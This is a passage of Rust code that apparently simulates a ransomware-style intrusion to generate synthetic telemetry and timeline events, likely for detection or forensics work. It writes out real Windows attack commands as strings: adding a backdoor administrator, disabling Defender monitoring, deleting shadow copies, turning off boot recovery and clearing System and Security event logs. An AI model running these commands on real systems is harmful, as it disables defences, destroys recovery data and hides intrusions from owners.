        "C:\\Windows\\system32\\net1  localgroup administrators hotro.it /add",
    );
    let at = scene.wait(0);
    scene
        .timeline
        .admin_group_member_added(at, &server, &admin, &backdoor);

    // Defences down: antivirus, shadow copies, recovery.
    let disable = "Set-MpPreference -DisableRealtimeMonitoring $true; Set-MpPreference -DisableIOAVProtection $true";
    scene.run(
        &server,
        &shell,
        30,
        POWERSHELL,
        &format!("powershell.exe -ExecutionPolicy Bypass -Command \"{disable}\""),
    );
    let at = scene.wait(1);
    scene
        .timeline
        .script_block(at, &server, disable, "", &mut scene.rng);
    scene.run(
        &server,
        &shell,
        25,
        &system32("vssadmin.exe"),
        "vssadmin.exe  delete shadows /all /quiet",
    );
    scene.run(
        &server,
        &shell,
        10,
        &system32("wbem\\WMIC.exe"),
        "wmic  shadowcopy delete /nointeractive",
    );
    scene.run(
        &server,
        &shell,
        12,
        &system32("bcdedit.exe"),
        "bcdedit  /set {default} recoveryenabled no",
    );

    // Tracks covered.
    scene.run(
        &server,
        &shell,
        20,
        &system32("wevtutil.exe"),
        "wevtutil  cl System",
    );
    let at = scene.wait(0);
    scene
        .timeline
        .event_log_cleared(at, &server, "System", &admin);
    scene.run(
        &server,
        &shell,
        5,
        &system32("wevtutil.exe"),
        "wevtutil  cl Security",
    );
    let at = scene.wait(0);
    scene.timeline.security_log_cleared(at, &server, &admin);
}
